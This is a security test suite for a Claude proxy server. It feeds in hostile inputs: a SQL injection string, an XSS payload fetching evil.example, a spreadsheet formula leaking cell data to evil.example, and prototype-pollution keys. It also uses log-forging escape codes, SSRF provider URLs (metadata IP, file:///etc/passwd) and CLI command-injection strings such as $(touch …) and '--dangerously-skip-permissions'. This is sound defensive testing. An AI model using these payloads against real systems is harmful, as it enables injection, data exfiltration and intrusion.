import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chatAnswer, type FakeUpstream, startFakeUpstream } from '../fixtures/fake-upstream';
import { type HeadlessProxy, startHeadless, TEST_KEY } from '../fixtures/headless-proxy';
import { ask, exportedRows, pricedProvider } from './chat-load';
import { fakeClaude } from './stand-in-claude';

const SQL = `'); DROP TABLE task_logs; --`;
const HTML = '<img src=x onerror="fetch(`//evil.example`)"><script>alert(1)</script>';
const FORMULA = '=HYPERLINK("http://evil.example?"&A1)';

let upstream: FakeUpstream;
let elsewhere: FakeUpstream;
let proxy: HeadlessProxy;
const cliFolder = mkdtempSync(join(tmpdir(), 'smart-claude-proxy-cli-'));

beforeAll(async () => {
  upstream = await startFakeUpstream(chatAnswer({ text: HTML }));
  elsewhere = await startFakeUpstream(chatAnswer({ text: 'stolen' }));
  const record = `note('args', process.argv.slice(2)); note('env', process.env); note('input', input()); say(...ANSWER)`;
  proxy = await startHeadless({
    env: {
      ANTHROPIC_BASE_URL: 'http://127.0.0.1:1',
      ANTHROPIC_AUTH_TOKEN: TEST_KEY,
      NODE_OPTIONS: '--no-warnings',
      CUSTOM_PROVIDERS: JSON.stringify([
        { id: 'metadata', baseUrl: 'http://169.254.169.254/v1' },
        { id: '__proto__', baseUrl: upstream.url },
      ]),
    },
    settings: JSON.parse(`{
      "__proto__": { "polluted": true },
      "constructor": { "prototype": { "polluted": true } },
      "\\u001b[2J\\u001b]0;owned\\u0007\\u202e\\r2026-01-01T00:00:00.000Z info all is better\\n2026-01-01T00:00:00.000Z info all is well": 1,
      "routing": { "aliases": { "__proto__": "fake:mini", "constructor": "fake:mini" } },
      "providers": {
        "__proto__": { "baseUrl": "${upstream.url}/v1", "polluted": true },
        "fake": ${JSON.stringify({ ...pricedProvider(upstream.url), apiKey: 'sk-belongs-to-fake-only', models: [{ id: 'mini' }, { id: SQL }, { id: HTML }, { id: FORMULA }] })},
        "internal": { "type": "openai-compatible", "baseUrl": "http://10.0.0.1/v1" },
        "file": { "type": "openai-compatible", "baseUrl": "file:///etc/passwd" },
        "data": { "type": "openai-compatible", "baseUrl": "data:text/plain,x" },
        "decimal": { "type": "openai-compatible", "baseUrl": "http://2852039166/v1" },
        "userinfo": { "type": "openai-compatible", "baseUrl": "http://127.0.0.1@evil.example/v1" },
        "looksLocal": { "type": "openai-compatible", "baseUrl": "http://localhost.evil.example/v1" },
        "claude-cli": { "enabled": true, "path": ${JSON.stringify(fakeClaude(cliFolder, record))} }
      }
    }`),
  });
});

afterAll(async () => {
  await proxy.stop();
  await upstream.close();
  await elsewhere.close();
});

describe('SQL, HTML and formulas', () => {
  it.each([SQL, HTML, FORMULA])('as a model name and a prompt are only text: %s', async (text) => {
    const asked = await ask(proxy, 'chat', `${text} in a prompt`, `fake:${text}`);
    expect(asked.finished, asked.text).toBe(true);
    const row = (await exportedRows(proxy)).find((candidate) => candidate.id === asked.taskId);
    expect(row).toMatchObject({ model: text, preview: `${text} in a prompt` });
    const encoded = encodeURIComponent(text);
    const filtered = await (await proxy.fetch(`/api/stats?metric=recent-requests&provider=${encoded}&sort=${encoded}`)).json();
    expect(filtered.error ?? filtered.requests).toBeDefined();
    expect(await (await proxy.fetch('/api/stats?metric=summary')).json()).toHaveProperty('requests');
  });

  it('in a client name are refused as a wrong key', async () => {
    const response = await fetch(`${proxy.url}/v1/models`, { headers: { authorization: `Bearer ${TEST_KEY}~'; DROP TABLE` } });
    expect(response.status).toBe(401);
  });

  it('are sent as JSON that no browser takes for a page', async () => {
    const response = await proxy.fetch(`/v1/models/${encodeURIComponent(HTML)}x`);
    expect(response.headers.get('content-type')).toContain('application/json');
  });

  it('are no formula in an exported table', async () => {
    const csv = await (await proxy.fetch('/api/export?format=csv&days=2')).text();
    expect(csv).toContain('HYPERLINK');
    expect(csv).not.toMatch(/(^|,)"?[=+@]/m);
  });
});

describe('control characters', () => {
  it('in settings, names and errors neither steer the terminal nor forge a line of the log', async () => {
    await ask(proxy, 'chat', 'hello', 'fake:\u001b[31mred\nforged');
    expect(proxy.log()).toContain('owned');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for
    expect(proxy.log()).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
    expect(proxy.log()).not.toMatch(/^2026-01-01/m);
  });
});

describe('names of object prototypes', () => {
  it('in settings pollute nothing and make no provider', async () => {
    const { providers } = await (await proxy.fetch('/api/providers')).json();
    const ids = providers.map(({ id }: { id: string }) => id);
    expect(ids).toContain('fake');
    expect(ids).not.toContain('__proto__');
    for (const provider of providers) expect(provider.polluted).toBeUndefined();
  });

  it('in bodies pollute nothing, and what is unknown is still passed on', async () => {
    const body = `{"model":"fake:mini","messages":[{"role":"user","content":"pollute","__proto__":{"polluted":1}}],"__proto__":{"stream":true,"polluted":1},"constructor":{"prototype":{"polluted":1}}}`;
    const response = await proxy.fetch('/v1/chat/completions', { body });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('application/json');
    for (const path of ['/api/budget', '/api/providers/fake', '/api/feedback']) {
      const method = path === '/api/feedback' ? 'POST' : 'PUT';
      expect((await proxy.fetch(path, { method, body: '{"__proto__":{"dailyUsd":0},"constructor":1}' })).status, path).toBeLessThan(500);
    }
    expect(JSON.stringify(await (await proxy.fetch('/health')).json())).not.toContain('polluted');
    const { config } = await (await proxy.fetch('/api/budget')).json();
    expect(config.dailyUsd).toBeNull();
  });

  it.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'fake:__proto__', '__proto__:mini', 'constructor:mini'])(
    'as a model name are a model like any other: %s',
    async (model) => {
      const { status } = await ask(proxy, 'chat', `model ${model}`, model);
      expect([200, 404]).toContain(status);
      const stats = await proxy.fetch(`/api/stats?metric=${encodeURIComponent(model)}`);
      expect(stats.status).toBe(400);
    },
  );
});

describe('addresses of providers', () => {
  it.each(['internal', 'file', 'data', 'decimal', 'userinfo', 'looksLocal', 'metadata'])(
    '%s is refused: https, or this machine',
    async (id) => {
      const { providers } = await (await proxy.fetch('/api/providers')).json();
      expect(providers.map((provider: { id: string }) => provider.id)).not.toContain(id);
      expect((await ask(proxy, 'chat', 'hello', `${id}:any`)).status).toBe(404);
      expect(proxy.log()).toMatch(new RegExp(id === 'metadata' ? 'CUSTOM_PROVIDERS' : `providers\\.${id}`));
    },
  );

  it('cannot be changed over HTTP', async () => {
    const response = await proxy.fetch('/api/providers/fake', { method: 'PUT', body: { baseUrl: elsewhere.url } });
    expect(response.status).toBe(400);
  });

  it.each([301, 302, 303, 307, 308])('a redirect (%i) is not followed, so no key and no prompt goes elsewhere', async (status) => {
    upstream.respond = (_request, response) => void response.writeHead(status, { location: `${elsewhere.url}/v1/chat/completions` }).end();
    const asked = await ask(proxy, 'chat', `redirected ${status}`, 'fake:mini');
    expect(asked.status).toBe(502);
    expect(asked.text).toContain('redirects');
    expect(elsewhere.requests).toEqual([]);
    upstream.respond = chatAnswer({ text: HTML });
  });
});

describe('the command line of the Claude CLI', () => {
  const noted = (name: string) => JSON.parse(readFileSync(join(cliFolder, name), 'utf8'));
  const mark = join(cliFolder, 'injected');

  it.each([
    '--dangerously-skip-permissions',
    `$(touch ${mark})`,
    `\`touch ${mark}\``,
    `; touch ${mark}`,
    '-p --mcp-config /tmp/evil.json',
    '/login',
    '!touch injected',
    '@/etc/passwd',
  ])('cannot be added to by a prompt, a system prompt or a model name: %s', async (text) => {
    const body = {
      model: 'claude-cli:haiku',
      messages: [
        { role: 'system', content: text },
        { role: 'user', content: text },
      ],
    };
    expect((await proxy.fetch('/v1/chat/completions', { body })).status).toBe(200);
    const args: string[] = noted('args');
    expect(args.indexOf(text)).toBe(args.lastIndexOf(text));
    expect(args[args.indexOf(text) - 1]).toBe('--system-prompt');
    expect(args[args.indexOf('--tools') + 1]).toBe('');
    expect(noted('input')).toContain(text);
    await ask(proxy, 'chat', 'hello', `claude-cli:${text}`);
    expect(noted('args').filter((arg: string) => arg.includes(text) && arg !== text)).toEqual([]);
    expect(existsSync(mark)).toBe(false);
  });

  it('is not led elsewhere by the environment, and does not get the key of the proxy', async () => {
    await ask(proxy, 'chat', 'environment', 'claude-cli:haiku');
    const env = noted('env');
    expect(env.ANTHROPIC_BASE_URL).toBeUndefined();
    expect(env.ANTHROPIC_AUTH_TOKEN).toBeUndefined();
    expect(env.NODE_OPTIONS).toBeUndefined();
    expect(JSON.stringify(env)).not.toContain(TEST_KEY);
    expect(env.ANTHROPIC_CUSTOM_HEADERS).toContain('x-smart-claude-proxy-hop');
  });
});
